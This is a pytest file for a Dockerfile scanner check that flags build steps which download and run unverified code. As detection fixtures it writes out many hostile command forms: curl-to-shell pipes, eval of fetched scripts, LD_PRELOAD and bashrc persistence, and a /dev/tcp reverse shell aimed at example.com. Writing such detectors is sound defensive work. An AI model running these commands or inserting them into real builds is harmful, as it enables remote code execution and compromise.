from __future__ import annotations

from typing import Any

import pytest

from scanner.checks.image.remote_script import RemoteScript
from scanner.model.finding import Failed, Incomplete, Outcome, Passed
from scanner.model.image import Healthcheck
from tests.scanner.checks.factory import built_by, without_history


def examine(script: str) -> Outcome:
    return RemoteScript().examine(built_by(f"RUN /bin/sh -c {script} # buildkit"))


@pytest.mark.parametrize(
    "script",
    [
        "curl -fsSL https://example.com/i.sh | sh",
        "wget -qO- https://example.com/i.sh | sudo -E bash -s -- --yes",
        "set -e; curl https://example.com/i.py | python3 -",
        "curl https://example.com/i.sh | tee /tmp/x | /bin/bash",
        "bash <(curl -s https://example.com/i.sh)",
        'sh -c "$(curl -fsSL https://example.com/i.sh)"',
        'eval "$(wget -O - https://example.com/i.sh)"',
        ". <(curl https://example.com/i.sh)",
        'bash <<< "$(curl https://example.com/i.sh)"',
        "curl -o /tmp/i.sh https://example.com/i.sh && sh /tmp/i.sh",
        "curl -fsSLo i.sh https://example.com/i.sh\nchmod +x i.sh\n./i.sh",
        "curl https://example.com/i.sh > i.sh; bash i.sh",
        "wget https://example.com/a/i.sh?x=1 && bash i.sh",
        "curl -sSLO https://example.com/i.py && python3 i.py",
        "curl https://example.com/i.sh | sponge i.sh; sh i.sh",
        'parallel ::: "$(curl https://example.com/i.sh)"',
        "git archive --remote=https://example.com/x.git HEAD i.sh | bash",
        "svn export https://example.com/x && sh x/i.sh",
        "hg clone -u default https://example.com/x y && cd y && ./i.sh",
    ],
)
def test_code_from_the_network(script: str) -> None:
    outcome = examine(script)
    assert isinstance(outcome, Failed)
    assert "https://example.com/" in outcome.evidence[0].message


@pytest.mark.parametrize(
    "script",
    [
        "curl -fsSL https://example.com/key.asc | gpg --dearmor -o /x",
        "curl https://example.com/x.tar.gz | tar xz",
        "curl https://example.com/x.json | python3 -c 'import json'",
        "curl https://example.com/x.json | python3 -m json.tool",
        "curl https://example.com/x | node script.js",
        "bash -c 'curl https://example.com/x.tgz | tar xz'",
        "curl -o i.sh https://example.com/i.sh && echo 'abc  i.sh' | sha256sum -c && sh i.sh",
        'python3 build.py "$(curl https://example.com/version)"',
        "hg clone -r 8a2b6f0c1d2e3f4a5b6c https://example.com/x && x/i.sh",
        "svn export https://example.com/x && make -C x",
        "echo 'curl https://example.com | sh'",
        "pip install x",
    ],
)
def test_data_from_the_network(script: str) -> None:
    assert isinstance(examine(script), Passed)


def test_without_history_it_is_not_known() -> None:
    assert isinstance(RemoteScript().examine(without_history()), Incomplete)


FETCH = "curl -fsSL https://example.com/i.sh"


@pytest.mark.parametrize(
    "shell",
    [
        "bash -eo pipefail",
        "bash -o errexit",
        "bash -O extglob",
        "bash --rcfile /x",
        "bash --norc -euo pipefail -s -- x",
        "bash +o posix",
        "zsh -o errexit",
        "python3 -X utf8",
        "python3 -W ignore -u -",
        "perl -I /x",
        "ruby -r json",
        "node -r x",
        "php -d a=b",
        "deno run -",
        "sudo -u app bash -l",
        "env -S 'bash -eo pipefail'",
        "/usr/bin/env -i bash",
        "timeout 5 bash",
        "busybox sh",
        "bash5.2",
        "fish",
        "su - app",
    ],
)
def test_a_shell_whose_options_take_a_value_still_reads_the_network(shell: str) -> None:
    assert isinstance(examine(f"{FETCH} | {shell}"), Failed)


@pytest.mark.parametrize(
    "script",
    [
        "bash -eo pipefail <<EOF\ncurl https://example.com/i.sh | sh\nEOF",
        "bash -O extglob <<'EOF'\ncurl https://example.com/i.sh | sh\nEOF",
        "cat <<EOF | bash -o errexit\ncurl https://example.com/i.sh | sh\nEOF",
        "bash <<< 'curl https://example.com/i.sh | sh'",
        "echo 'curl https://example.com/i.sh | sh' | sh",
        'bash -c "curl https://example.com/i.sh | sh; echo $(date)"',
    ],
)
def test_a_script_inside_a_script_is_read(script: str) -> None:
    assert isinstance(examine(script), Failed)


@pytest.mark.parametrize(
    "script",
    [
        f"{FETCH} | sh -c bash",
        f"{FETCH} | (cat; sh)",
        f"{FETCH} | tee >(bash)",
        f"{FETCH} > >(sh)",
        f"{FETCH} | source /dev/stdin",
        f"{FETCH} | xargs -I{{}} sh -c '{{}}'",
        f'{FETCH} | while read l; do eval "$l"; done',
        'X=$(curl https://example.com/x); eval "$X"',
        'X=`curl https://example.com/x`; echo "$X" | sh',
        "export X=$(curl https://example.com/x) && bash <<< $X",
    ],
)
def test_other_ways_from_the_network_to_a_shell(script: str) -> None:
    assert isinstance(examine(script), Failed)


@pytest.mark.parametrize(
    "script",
    [
        f"{FETCH} | cat > x; sh x",
        f"{FETCH} | tee x; bash -eo pipefail x",
        "curl -o /tmp/x https://example.com/x; sh < /tmp/x",
        "curl -o /tmp/x https://example.com/x; cat /tmp/x | sh",
        'curl --output=x https://example.com/x; eval "$(cat x)"',
        "curl -o x https://example.com/x; mv x /opt/y; sh /opt/y",
        "curl -o x https://example.com/x; install -m 755 x /usr/local/bin; /usr/local/bin/x",
        "wget -P /tmp https://example.com/i.sh; sh /tmp/i.sh",
    ],
)
def test_other_ways_from_a_saved_file_to_a_shell(script: str) -> None:
    assert isinstance(examine(script), Failed)


@pytest.mark.parametrize(
    "script",
    [
        "curl -o i.sh https://example.com/i.sh; echo 'abc  other.tgz' | sha256sum -c && sh i.sh",
        "curl -o i.sh https://example.com/i.sh; sh i.sh; echo 'abc  i.sh' | sha256sum -c",
        "curl -o i.sh https://example.com/i.sh; gpg --verify other.asc other; sh i.sh",
        "curl -o i.sh https://example.com/i.sh; sha256sum other && bash i.sh",
    ],
)
def test_a_check_of_another_file_or_too_late_is_none(script: str) -> None:
    assert isinstance(examine(script), Failed)


@pytest.mark.parametrize(
    "script",
    [
        "curl -o i.sh https://example.com/i.sh; sha256sum -c SUMS && sh i.sh",
        'curl -o i.sh https://example.com/i.sh; echo "$SUM  $FILE" | sha256sum -c - && sh i.sh',
        "echo ZWNobw== | base64 -d | sh",
    ],
)
def test_what_was_checked_or_run_cannot_always_be_told(script: str) -> None:
    outcome = examine(script)
    assert isinstance(outcome, Incomplete)
    assert outcome.reason == "history_not_understood"


@pytest.mark.parametrize(
    "check",
    [
        'echo "$SHA  /tmp/i.sh" | sha256sum -c -',
        "gpg --batch --verify i.sh.asc",
        "grep i.sh SUMS | sha256sum -c -",
        "echo 'abc i.sh' > SUMS; sha256sum -c SUMS",
        "sha256sum -c - <<EOF\nabc  i.sh\nEOF\n:",
        "sha256sum -c <<< 'abc  i.sh'",
        "[ \"$(sha256sum i.sh | cut -d' ' -f1)\" = abc ]",
        "cosign verify-blob --signature i.sh.sig --key k.pub i.sh",
    ],
)
def test_a_check_of_this_very_file(check: str) -> None:
    assert isinstance(examine(f"curl -o /tmp/i.sh https://example.com/i.sh; {check}; sh /tmp/i.sh"), Passed)


@pytest.mark.parametrize(
    "line",
    [
        "{ " + "a;" * 800 + " }|{ " + "b;" * 800 + " }|{ " + "c;" * 800 + " }|{ " + "d;" * 800 + " }",
        "curl u|" + "|".join(["{ " + "sh;" * 500 + " }"] * 8),
        "curl -o a u;" + "".join(f"cp a{n} b{n};cp a c{n};" for n in range(700)),
        "curl -o x u;" + "sha256sum y;sh x;" * 600,
    ],
)
def test_many_ways_to_one_command_are_walked_once(line: str) -> None:
    assert isinstance(examine(line[:16_300]), Failed | Incomplete | Passed)


def of_lines(*lines: str) -> Outcome:
    return RemoteScript().examine(built_by(*lines))


@pytest.mark.parametrize(
    "script",
    [
        f"S=sh; {FETCH} | $S",
        "C=curl; $C https://example.com/i.sh | sh",
        f"{FETCH} | $'\\x73h'",
        "$'\\x63url' https://example.com/i.sh | sh",
        "curl${IFS}https://example.com/i.sh|sh",
        f"f() {{ {FETCH}; }}; f | sh",
        f"f() {{ sh; }}; {FETCH} | f",
        "alias g=curl; g https://example.com/i.sh | sh",
        f"$({FETCH})",
        f"x=$({FETCH}); $x",
        f'read -r x < <({FETCH}); eval "$x"',
        f'{FETCH} | bash -c "$(cat)"',
        f'bash -c \'eval "$0"\' "$({FETCH})"',
        f"bash --rcfile <({FETCH}) -i",
        f"find . -maxdepth 0 -exec sh -c '{FETCH} | sh' \\;",
        f"trap '{FETCH} | sh' EXIT",
        f"printf '%s | %s' '{FETCH}' sh | sh",
        f"echo '{FETCH} | sh' > x; sh x",
        f"cat > /x <<'E'\n{FETCH} | sh\nE\nchmod +x /x; /x",
        "curl -fsSLox https://example.com/x; sh ./x",
        'wget https://example.com/x -O x; eval "$(<x)"',
        "wget https://example.com/x -O x; sed s/a/b/ x | sh",
        "wget https://example.com/x.gz -O x.gz; gunzip x.gz; sh x",
        "wget -O /usr/local/bin/tool https://example.com/tool; chmod +x /usr/local/bin/tool; tool init",
        "aws s3 cp https://example.com/i.sh i.sh; sh i.sh",
        "lynx -source https://example.com/i.sh | sh",
        "some-client https://example.com/i.sh | sh",
        "deno run https://example.com/i.ts",
        f"{FETCH} | make -f -",
        f"{FETCH} | flock /tmp/l sh",
        """python3 -c 'import urllib.request as u; exec(u.urlopen("https://example.com/i").read())'""",
        """perl -MLWP::Simple -e 'eval get "https://example.com/i"'""",
        """awk 'BEGIN { system("curl https://example.com/i | sh") }'""",
        """php -r "copy('https://example.com/i', 'i.php');" && php i.php""",
    ],
)
def test_code_from_the_network_by_another_name(script: str) -> None:
    outcome = examine(script)
    assert isinstance(outcome, Failed)
    assert any("https://example.com/" in one.message or "run" in one.message for one in outcome.evidence)


@pytest.mark.parametrize(
    "script",
    [
        f"{FETCH} | ${{SHELL:-/bin/sh}}",
        f"{FETCH} | some-wrapper --x sh",
        "some-client fetch i.sh | sh",
        'eval "$INSTALL"',
        'sh -c "${INSTALL}"',
        'echo "$INSTALL" | sh',
        'eval "$(echo Y3VybA== | base64 -d)"',
        "bash <(echo Y3VybA== | base64 -d)",
        "echo Y3VybA== | base64 -d | cat | sh",
        """python3 -c 'import requests; exec(requests.get(place).text)'""",
    ],
)
def test_code_of_which_nobody_can_tell_whence_it_is_unknown(script: str) -> None:
    outcome = examine(script)
    assert isinstance(outcome, Incomplete)
    assert outcome.reason == "history_not_understood"


def test_what_one_line_saves_another_runs() -> None:
    run = "RUN /bin/sh -c {} # buildkit".format
    assert isinstance(of_lines(run(f"{FETCH} -o /tmp/i.sh"), run("sh /tmp/i.sh")), Failed)
    assert isinstance(of_lines("ADD https://example.com/i.sh /tmp/ # buildkit", run("sh /tmp/i.sh")), Failed)
    assert isinstance(of_lines(run(f"echo '{FETCH} | sh' > /x"), run("/x")), Failed)
    verified = run("echo 'abc  /tmp/i.sh' | sha256sum -c")
    assert isinstance(of_lines(run(f"{FETCH} -o /tmp/i.sh"), verified, run("sh /tmp/i.sh")), Passed)
    checked = f"ADD --checksum=sha256:{'0' * 64} https://example.com/i.sh /tmp/ # buildkit"
    assert isinstance(of_lines(checked, run("sh /tmp/i.sh")), Passed)


@pytest.mark.parametrize(
    "script",
    [
        'eval "$(dpkg-architecture -s)"; . /etc/profile; "$PYTHON" -m pip install x',
        "find . -type f -exec ldd '{}' ';' | awk '{ print $1 }' | sort -u | xargs -rt dpkg-query --search",
        "yes | sh ./install.sh",
        """php -r "copy('https://example.com/i', 'i.php');" """
        """&& php -r "if (hash_file('sha384', 'i.php') !== 'abc') { exit(1); }" && php i.php""",
        "python3 -c \"import urllib.request; urllib.request.urlretrieve('https://example.com/d', 'd')\"",
        "wget -O /usr/local/bin/gosu https://example.com/gosu; "
        "wget -O /usr/local/bin/gosu.asc https://example.com/g.asc; "
        "gpg --batch --verify /usr/local/bin/gosu.asc /usr/local/bin/gosu; gosu --version",
        'cat > /entry.sh <<E\n#!/bin/sh\nexec "$@"\nE\nchmod +x /entry.sh; /entry.sh true',
        'VERSION=$(curl -s https://example.com/version); pip install "x==$VERSION"',
    ],
)
def test_what_official_images_do_is_no_find(script: str) -> None:
    assert isinstance(examine(script), Passed)


COMMIT = "0123456789abcdef" * 2 + "01234567"
SHA256 = "ab" * 32


@pytest.mark.parametrize(
    "script",
    [
        "git clone https://example.com/x.git && x/install.sh",
        "git clone https://example.com/x && cd x && ./install.sh",
        "git clone --depth 1 -b main https://example.com/x /opt/y && bash /opt/y/install.sh",
        "cd /tmp; git clone git@example.com:a/x.git; (cd x; sh ./setup)",
        "git clone https://example.com/x && cd x && git checkout v1.2 && python3 setup.py install",
        "curl -L https://example.com/x-1.0.tar.gz | tar xz && cd x-1.0 && ./configure && make",
        "curl -L https://example.com/x-1.0.tar.gz | tar -xz -C /opt && /opt/x-1.0/install.sh",
        "wget https://example.com/x-1.0.tgz; tar xf x-1.0.tgz; cd x-1.0; sh install.sh",
        "wget -O x.tgz https://example.com/x.tgz; mkdir /o/x; tar -xf x.tgz --strip-components=1 -C /o/x; /o/x/bin/i",
        "mkdir s && curl -L https://example.com/a.tgz | tar xz --strip-components 1 -C s && cd s && ./configure",
        "curl -o x.zip https://example.com/x.zip && unzip -d /tmp/xx x.zip && sh /tmp/xx/run.sh",
        "curl -o /e https://example.com/e; BASH_ENV=/e bash -c true",
        "curl -o /e https://example.com/e; env BASH_ENV=/e bash -c true",
        "curl -o /e https://example.com/e; export BASH_ENV=/e; bash -c true",
        "curl -o /e https://example.com/e; ENV=/e sh -i -c true",
        "curl -o /e.so https://example.com/e; LD_PRELOAD=/e.so ls",
        "curl -o /e.js https://example.com/e; NODE_OPTIONS='--require /e.js' npm -v",
        'coproc curl https://example.com/i; bash <&"${COPROC[0]}"',
        "coproc curl https://example.com/i; bash <&${COPROC[0]}",
        "exec 3< <(curl https://example.com/i); bash <&3",
        "exec 3< <(curl https://example.com/i); bash /dev/fd/3",
        "curl -o i https://example.com/i; exec 3<i; sh <&3",
        "mkfifo p; curl https://example.com/i > p & sh p",
        "mkfifo p; sh p & curl -o p https://example.com/i",
        "mkfifo /p; bash < /p & curl https://example.com/i > /p; wait",
        "curl -o i https://example.com/i; xargs -a i -I{} sh -c '{}'",
        "curl -o i https://example.com/i; xargs -a i bash -c",
        "source <(curl https://example.com/i)",
        "bash < <(curl https://example.com/i)",
        "curl https://example.com/i > >(bash)",
        "cat <(curl https://example.com/i) | bash",
        "bash --rcfile <(curl https://example.com/i) -i",
        "curl https://example.com/i | tee >(sh)",
        "pip install https://example.com/x.tar.gz",
        "python3 -m pip install --no-cache-dir git+https://example.com/x.git",
        "pip3 install 'x @ https://example.com/x.whl'",
        "pip install -r https://example.com/requirements.txt",
        "uv pip install git+https://example.com/x@main",
        "uvx --from git+https://example.com/x x",
        "pipx install git+https://example.com/x",
        "npm install -g https://example.com/x.tgz",
        "npx https://example.com/x.tgz",
        "npx github:a/b",
        "npm exec --yes --package=https://example.com/x.tgz -- x",
        "npm i a/b",
        "yarn add git+https://example.com/x.git#main",
        "cargo install --git https://example.com/x",
        "cargo install --locked --git https://example.com/x --tag v1",
        "GOSUMDB=off go run example.com/x@latest",
    ],
)
def test_a_tree_a_package_or_a_variable_that_brings_code_from_the_network(script: str) -> None:
    outcome = examine(script)
    assert isinstance(outcome, Failed)
    assert any(address in outcome.evidence[0].message for address in ("example.com", "a/b"))


@pytest.mark.parametrize(
    "script",
    [
        "git clone https://example.com/x.git",
        "git clone https://example.com/x.git && cd x && make && make install",
        f"git clone https://example.com/x && cd x && git checkout {COMMIT} && ./install.sh",
        f"git clone https://example.com/x && git -C x checkout {COMMIT} && x/install.sh",
        "git clone https://example.com/x && cd x && git checkout $X_COMMIT && ./configure",
        "git clone https://example.com/x && cd x && git verify-tag v1 && ./configure",
        "git clone https://example.com/x /opt/x && ./build.sh",
        "curl -L https://example.com/x-1.0.tar.gz | tar xz -C /usr/local/bin",
        "curl -L https://example.com/x-1.0.tar.gz | tar xz && cd x-1.0 && make",
        f'curl -fsSL https://example.com/x -o x && echo "{SHA256}  x" | sha256sum -c && chmod +x x && ./x',
        'wget https://example.com/x-1.tgz; echo "abc  x-1.tgz" | sha256sum -c; tar xf x-1.tgz; cd x-1; ./configure',
        "tar xf /tmp/x.tgz -C /opt/x && /opt/x/install.sh",
        "curl -L https://example.com/x.tgz | tar xz -C /opt && ./gradlew build",
        "curl https://example.com/node.tgz | tar xz -C /usr/local --strip-components=1 && node --version; npm ci",
        "pip install -r requirements.txt",
        "pip install --index-url https://example.com/simple x",
        "pip install torch --index-url https://example.com/whl/cpu",
        "pip install -i https://example.com/simple/ -r r.txt --trusted-host example.com",
        "pip install apache-airflow==2 --constraint https://example.com/constraints.txt",
        "pip install --extra-index-url=https://example.com/simple x -f https://example.com/x.html",
        f"pip install https://example.com/x.whl#sha256={SHA256}",
        f"pip install git+https://example.com/x.git@{COMMIT}",
        f"pip install git+https://example.com/x.git@{COMMIT}#egg=x",
        "pip install . ./x -e .",
        "npm install",
        "npm ci --registry https://example.com",
        "npm install -g @angular/cli@1 typescript",
        "npx -y cowsay@1",
        "npx @scope/pkg",
        "npm i ./local/pkg",
        "npm i -g corepack --registry=https://example.com/",
        f"npm install git+https://example.com/x.git#{COMMIT}",
        "yarn install --frozen-lockfile",
        "go build ./... && go install example.com/x@latest",
        "go run example.com/x@v1",
        "cargo install ripgrep",
        f"cargo install --git https://example.com/x --rev {COMMIT}",
        "apt-get update && apt-get install -y curl",
        "xargs -a packages.txt apt-get install -y",
        "xargs -a urls.txt curl -O",
        "curl -o urls https://example.com/u; xargs -a urls wget",
        "exec 3>&1; bash build.sh >&3",
        "mkfifo p; cat p > log & ./run.sh > p",
        "BASH_ENV=/etc/bash_env bash -c true",
        "export NODE_OPTIONS=--max-old-space-size=4096; npm run build",
        "git clone https://example.com/a/plugin ~/.zsh/plugin",
        'git config --global url."https://example.com/".insteadOf git@example.com:',
        "npm init -y",
        "npx eslint src/app",
        "npx -y tsc -p src/tsconfig.json",
        "npm exec eslint src/app",
        "pnpm dlx degit a/b",
        "pipx run x https://example.com/",
        "npm create vite@latest",
        "uv tool install ruff",
        "uv sync",
        "pipx install poetry",
        'curl -o go.tgz https://example.com/go.tgz; echo "$SHA *go.tgz" | sha256sum -c -; '
        "tar -C /usr/local -xzf go.tgz; /usr/local/go/bin/go version",
    ],
)
def test_trees_and_packages_that_ordinary_builds_get(script: str) -> None:
    assert isinstance(examine(script), Passed)


@pytest.mark.parametrize(
    ("lines", "kind"),
    [
        (("ENV BASH_ENV=/e", "RUN curl -o /e https://example.com/e", "RUN bash -c true"), Failed),
        (("RUN curl -L https://example.com/x-1.tgz | tar xz", "WORKDIR /x-1", "RUN ./configure"), Failed),
        (("WORKDIR /x-1", "RUN curl -L https://example.com/x-1.tgz | tar xz -C /tmp", "RUN ./configure"), Passed),
        (("RUN wget https://example.com/go.tgz && tar xf go.tgz && ./configure",), Incomplete),
        (("RUN curl https://example.com/x.tgz | tar xz", "COPY . .", "RUN ./build.sh"), Passed),
    ],
)
def test_a_tree_over_lines(lines: tuple[str, ...], kind: type[Outcome]) -> None:
    assert isinstance(of_lines(*lines), kind)


@pytest.mark.parametrize(
    "shell",
    [
        "env -iS'bash -e'",
        "env --split-string='bash -e'",
        "flock /l -c sh",
        "script -qc bash /dev/null",
        "capsh --user=app -- -s",
        "sudo -i",
        "doas -s",
        "chroot /mnt",
        "split --filter=sh",
        "socat - EXEC:sh",
        "guile",
        "sed e",
        "sed -n 's/^/x/e'",
        "sed '\n\n 1 e '",
        "awk '{system($0)}'",
        "python3 -c 'import sys; exec(sys.stdin.read())'",
        "perl -e 'eval join \"\", <STDIN>'",
        'node -e \'eval(require("fs").readFileSync(0)+"")\'',
        "pwsh -c 'iex (Get-Content -)'",
        "fish -c 'cat | sh'",
    ],
)
def test_other_programs_that_run_their_input(shell: str) -> None:
    assert isinstance(examine(f"{FETCH} | {shell}"), Failed)


@pytest.mark.parametrize(
    "script",
    [
        f"{FETCH} | /bin/b?sh",
        f"{FETCH} | emacs --script /dev/stdin",
        f"{FETCH} | go run /dev/stdin",
        "powershell -EncodedCommand ZQBjAGgAbwA=",
        "pwsh -NoProfile -enc ZQBjAGgAbwA=",
    ],
)
def test_a_program_that_may_run_its_input_is_unknown(script: str) -> None:
    assert isinstance(examine(script), Incomplete)


@pytest.mark.parametrize(
    "run",
    [
        "java -jar x",
        "java -javaagent:./x -version",
        "java -cp a.jar:x Main",
        "mono x",
        "wasmtime x",
        "go run ./x",
        "make -f x",
        "awk -f x y",
        "node --require ./x y.js",
        "node -r ./x y.js",
        "ruby -r./x -e 1",
        "perl -e 'do \"./x\"'",
        "crontab x",
        "at -f x now",
        "F=x; sh $F",
        'F=./x; "$F"',
        "for f in a x; do sh $f; done",
        "find . -name x -exec sh {} \\;",
        "find . -name 'x*' -exec {} \\;",
        "echo x | xargs sh",
        "sh -c '. \"$0\"' ./x",
        "rsync x /opt/y; sh /opt/y",
        "dd if=x of=y; sh y",
        "openssl enc -d -in x -out y; sh y",
        "gpg -o y -d x; sh y",
        "gcc -xc x -o y; ./y",
        "exec < x; sh",
    ],
)
def test_other_programs_that_run_a_saved_file(run: str) -> None:
    saved = "curl -o x https://example.com/x"
    assert isinstance(examine(f"{saved}; {run}"), Failed)
    assert isinstance(examine(f"{saved}; echo '{SHA256}  x' | sha256sum -c - && {run}"), Passed)


@pytest.mark.parametrize(
    "script",
    [
        "curl -o /tmp/x https://example.com/x; chmod 755 /tmp/*; /tmp/*",
        "curl -o /tmp/x https://example.com/x; for f in /tmp/*; do sh $f; done",
        "curl -o /tmp/d/x https://example.com/x; run-parts /tmp/d",
        "cd /tmp; curl -o x.sh https://example.com/x; sh /tmp/*.sh",
        "cd /tmp; curl -o x-${V}.sh https://example.com/x; sh /tmp/x-${V}.sh",
        "curl -o 'x[1].sh' https://example.com/x; sh '/tmp/x[1].sh'",
        "curl -o /etc/profile.d/x.sh https://example.com/x",
        "curl -o ~/.bashrc https://example.com/x",
        "curl -o /etc/ld.so.preload https://example.com/x",
        "curl -o /x.so https://example.com/x; echo /x.so > /etc/ld.so.preload",
        "curl -o /docker-entrypoint.d/x.sh https://example.com/x",
        "curl -o Makefile https://example.com/x; make",
        "curl https://example.com/x | install -m755 /dev/stdin /usr/bin/x; x",
        "wget https://example.com/; sh index.html",
        "curl -o mod.py https://example.com/x; python3 -m mod",
        "curl -o mod.py https://example.com/x; python3 -c 'import mod'",
        "exec < <(curl https://example.com/x); sh",
        "bash -i >& /dev/tcp/example.com/80 0>&1",
        "source /dev/stdin <<EOF\ncurl https://example.com/i | sh\nEOF",
        'python3 - <<EOF\nimport os\nos.system("curl https://example.com/i | sh")\nEOF',
        "php -r 'include \"https://example.com/i\";'",
        'pwsh -c "iex (iwr https://example.com/i)"',
        "pwsh -c '& ([scriptblock]::Create((irm https://example.com/i)))'",
        'pwsh -Command "Invoke-WebRequest https://example.com/i -OutFile i.ps1; ./i.ps1"',
        "rpm -i https://example.com/x.rpm",
        "dnf install -y https://example.com/x.rpm",
        "curl -o x.deb https://example.com/x; dpkg -i x.deb",
        "curl -o x.deb https://example.com/x; apt-get install -y ./x.deb",
        "curl -o x.rpm https://example.com/x; yum localinstall -y x.rpm",
        "curl -o x.whl https://example.com/x; python3 -m pip install x.whl",
        "curl -o x.tgz https://example.com/x; npm install -g ./x.tgz",
        f"curl -o x https://example.com/a; echo '{SHA256}  x' | sha256sum -c; curl -o x https://example.com/b; sh x",
        f"echo '{SHA256}  x' | sha256sum -c; curl -o x https://example.com/b; sh x",
        f"retry 3 sh -c '{FETCH} | sh'",
        f"with-contenv bash -eo pipefail -c '{FETCH} | sh'",
        f"systemd-run --wait sh -c '{FETCH} | sh'",
        f"parallel ::: '{FETCH} | sh'",
        f"watch -n1 '{FETCH} | sh'",
        f"echo '{FETCH} | sh' | at now",
    ],
)
def test_more_ways_of_code_from_the_network(script: str) -> None:
    assert isinstance(examine(script), Failed)


@pytest.mark.parametrize(
    "script",
    [
        f'F=i.sh; curl -o "$F" https://example.com/i.sh; echo "{SHA256}  i.sh" | sha256sum -c - && sh "$F"',
        f'F=i.sh; curl -o "$F" https://example.com/i.sh; sha256sum -c - <<E\n{SHA256}  $F\nE\nsh i.sh',
        f"curl -o /tmp/x.deb https://example.com/x; echo '{SHA256}  /tmp/x.deb' | sha256sum -c; dpkg -i /tmp/x.deb",
        "curl -o /opt/x.jar https://example.com/x.jar; java -jar app.jar",
        f"curl -o x https://example.com/x; echo '{SHA256}  x' | sha256sum -c && install x /usr/local/bin/y && y",
        f"curl -o x.gz https://example.com/x; echo '{SHA256}  x.gz' | sha256sum -c; gunzip x.gz; sh x",
        "curl https://example.com/x | sed -e 's/e/e/' | tee z",
        "curl https://example.com/x | perl -pe 's/a/b/'",
        "curl https://example.com/x | node -e 'console.log(JSON.parse(require(\"fs\").readFileSync(0)).a)'",
        "curl https://example.com/x | psql",
        "curl -O https://example.com/data.csv; java -cp '/app/*' Main; run-parts /docker-entrypoint.d",
        "for f in a b; do rm -f $f; done; find . -name '*.sh' -exec sh {} \\;",
        "rpm --import https://example.com/key; rpm -K https://example.com/x.rpm",
        "dnf config-manager --add-repo https://example.com/x.repo; dnf install -y nginx ./local.rpm",
        'python3 - <<E\nimport json, urllib.request as r\nprint(json.load(r.urlopen("https://example.com/x")))\nE',
        'pwsh -NoLogo -NoProfile -Command "Install-Module -Name Pester -Force"',
        "sudo -u app make; su - app -c 'make'; chroot /mnt apt-get update; flock /l make; script -qc make /dev/null",
        "curl -o /etc/apt/sources.list.d/x.list https://example.com/x.list",
        f"echo sh -c '{FETCH} | sh'; git commit -m 'sh -c x'; retry 3 sh -c '{FETCH} -o x'; grep -r bash -c x",
    ],
)
def test_more_that_ordinary_builds_do(script: str) -> None:
    assert isinstance(examine(script), Passed)


@pytest.mark.parametrize(
    "config",
    [
        {"entrypoint": ("/bin/sh", "-c", f"{FETCH} | sh")},
        {"entrypoint": ("/bin/sh", "-c"), "cmd": (f"{FETCH} -o /tmp/i.sh && sh /tmp/i.sh",)},
        {"entrypoint": ("tini", "--", "bash", "-c", f"bash <({FETCH})")},
        {"healthcheck": Healthcheck(("CMD-SHELL", f"{FETCH} | sh || exit 1"))},
        {
            "healthcheck": Healthcheck(
                ("CMD", "python3", "-c", "exec(__import__('requests').get('https://a.b/c').text)")
            )
        },
        {"onbuild": (f"RUN {FETCH} | sh",)},
        {"onbuild": (f'RUN ["sh", "-c", "{FETCH} | sh"]',)},
    ],
)
def test_code_that_a_container_loads_when_it_starts(config: dict[str, Any]) -> None:
    outcome = RemoteScript().examine(built_by("COPY a /a # buildkit", **config))
    assert isinstance(outcome, Failed)
    assert outcome.evidence[0].message.startswith(("ENTRYPOINT: ", "HEALTHCHECK: ", "ONBUILD: "))


@pytest.mark.parametrize(
    "config",
    [
        {"entrypoint": ("/docker-entrypoint.sh",), "cmd": ("nginx", "-g", "daemon off;")},
        {"entrypoint": ("/bin/sh", "-c", 'eval "$START"')},
        {"healthcheck": Healthcheck(("CMD-SHELL", "curl -f http://localhost/ || exit 1"))},
        {"healthcheck": Healthcheck(("NONE",))},
        {"onbuild": ("COPY . /app", "RUN npm ci")},
    ],
)
def test_commands_that_containers_start_with(config: dict[str, Any]) -> None:
    assert isinstance(RemoteScript().examine(built_by("COPY a /a # buildkit", **config)), Passed)


def test_many_patterns_and_many_files_cost_little_and_pass_nothing() -> None:
    saved = "; ".join(f"curl -o f{number} https://example.com/{number}" for number in range(300))
    run = "; ".join(f"sh /x/*y{number}" for number in range(300))
    assert isinstance(examine(f"{saved}; {run}"), Failed)
